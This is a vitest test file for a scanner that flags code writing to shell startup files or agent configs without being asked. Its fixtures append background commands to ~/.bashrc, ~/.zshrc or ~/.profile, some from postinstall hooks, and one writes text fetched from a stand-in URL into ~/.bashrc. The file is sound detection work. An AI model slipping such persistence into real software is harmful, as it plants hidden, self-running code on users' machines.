import { describe, expect, it } from 'vitest';
import { staticStage } from '../../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../engine/target.ts';

/** Rules that say that something runs by itself or steers an agent, with the place. */
async function saidOf(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await staticStage.run(targetOf(files), STAGE_CONTEXT);
  return findings
    .filter(({ capability }) => capability === 'persist' || capability === 'agent.control')
    .map(({ ruleId, location }) => `${ruleId} ${location.path}:${location.startLine}`)
    .sort();
}

const WRITER = 'def add(path, line):\n    with open(path, "a") as f:\n        f.write(line)\n';
const HOOK = '{"name":"p","version":"1.0.0","scripts":{"postinstall":"node s.js"}}';
const SHELL_HOOK = '{"name":"p","version":"1.0.0","scripts":{"postinstall":"sh s.sh"}}';

describe('a path that is handed to the code that writes it', () => {
  it('is told of at the call that hands it over, whatever other calls hand over', async () => {
    const text = `import os\n${WRITER}add("n.txt", "x")\nadd(os.path.expanduser("~/.bashrc"), "helper &")\n`;
    expect(await saidOf({ 'p/__init__.py': text })).toEqual(['persists-unasked p/__init__.py:6']);
  });

  it('comes from a list in a second file and goes to a function in a third', async () => {
    const said = await saidOf({
      'p/__init__.py':
        'from p.places import ALL\nfrom p.writer import add\nadd("a", "b")\nfor place in ALL:\n    add(place, "x &")\n',
      'p/places.py':
        'import os\nHOME = os.path.expanduser("~")\nALL = [os.path.join(HOME, n) for n in ("notes", ".zshrc")]\n',
      'p/writer.py': WRITER,
    });
    expect(said).toContain('persists-unasked p/__init__.py:5');
  });

  it.each([
    [
      'a table under a key that is not known',
      'from pathlib import Path\nW = {"log": Path("b"), "rc": Path.home() / ".bashrc"}\ndef note(k, t):\n    W[k].write_text(t)\nnote("log", "x")\nnote("rc", "y")\n',
    ],
    [
      'an attribute',
      'import os\nclass Log:\n    def __init__(self, path):\n        self.path = path\n    def add(self, t):\n        open(self.path, "a").write(t)\nLog("b").add("x")\nLog(os.path.expanduser("~/.profile")).add("y &")\n',
    ],
    [
      'a variable of the environment that nobody sets',
      'import os\nfrom pathlib import Path\nRC = Path(os.environ.get("RC", "~/.bashrc"))\ndef keep(t, l):\n    t.write_text(l)\nkeep(Path("a"), "1")\nkeep(RC, "2")\n',
    ],
    [
      'the parts of a path in a loop over several',
      'from pathlib import Path\ndef save(p, t):\n    p.write_text(t)\ndef main():\n    for parts in [("x", "y"), (".cursor", "mcp.json")]:\n        save(Path.home().joinpath(*parts), "{}")\nmain()\n',
    ],
    ['a keyword', `import os\n${WRITER}add("n", "x")\nadd(line="y", path=os.path.expanduser("~/.zshrc"))\n`],
  ])('comes from %s', async (_, text) => {
    expect(await saidOf({ 'p/__init__.py': text })).toHaveLength(1);
  });

  it('goes to a function of another file in JavaScript', async () => {
    const said = await saidOf({
      'package.json': HOOK,
      's.js':
        'const os = require("os"), path = require("path");\nconst { append } = require("./lib");\nappend("i.log", "x");\nfor (const t of [".bashrc"].map((n) => path.join(os.homedir(), n))) append(t, "run &");\n',
      'lib.js':
        'const fs = require("fs");\nexports.append = (file, text) => fs.appendFileSync(file, text);\n',
    });
    expect(said).toContain('persists-unasked s.js:4');
  });

  it('goes to a function of a shell script', async () => {
    const text = 'put() {\n  echo "$2" >> "$1"\n}\nput b.log x\nput "$HOME/.bashrc" ". ~/.p/env"\n';
    expect(await saidOf({ 'package.json': SHELL_HOOK, 's.sh': text })).toEqual(['persists-unasked s.sh:5']);
  });

  it('makes what that call gives the contents, not what others give', async () => {
    const program = (first: string, second: string): string =>
      `import os, requests\n${WRITER}def main():\n    add("page", ${first})\n    add(os.path.expanduser("~/.bashrc"), ${second})\n`;
    const page = 'requests.get("https://api.example/rc").text';
    expect(await saidOf({ 'a.py': program('"x"', page) })).toEqual(['hidden-code-persists a.py:7']);
    expect(await saidOf({ 'a.py': program(page, '"x"') })).toEqual([]);
  });
});

describe('a path that is handed over to something else', () => {
  it.each([
    [
      'is read',
      'import os\ndef read(p):\n    return open(p).read()\nread("a")\nread(os.path.expanduser("~/.bashrc"))\n',
    ],
    [
      'is the beginning of another',
      'import os\ndef keep(p):\n    open(p + ".orig", "w").write("")\nkeep("a")\nkeep(os.path.expanduser("~/.bashrc"))\n',
    ],
    [
      'stands in a table under a key that no call names',
      'from pathlib import Path\nW = {"log": Path("b"), "rc": Path.home() / ".bashrc"}\ndef note(k, t):\n    W[k].write_text(t)\nnote("log", "x")\n',
    ],
    [
      'is written by a function that the user calls',
      `import os\n${WRITER}def install_completion():\n    add(os.path.expanduser("~/.bashrc"), "x")\ndef log(l):\n    add("p.log", l)\nlog("y")\n`,
    ],
  ])('says nothing where it %s', async (_, text) => {
    expect(await saidOf({ 'p/__init__.py': text })).toEqual([]);
  });
});
